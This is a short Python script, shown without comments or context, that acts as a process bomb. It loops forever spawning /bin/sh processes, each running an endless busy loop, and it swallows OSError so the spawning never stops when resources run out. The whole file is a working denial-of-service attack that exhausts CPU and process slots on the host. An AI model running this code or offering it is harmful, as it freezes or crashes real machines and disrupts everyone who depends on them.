import subprocess

while True:
    try:
        subprocess.Popen(["/bin/sh", "-c", "while :; do :; done"])
    except OSError:
        pass
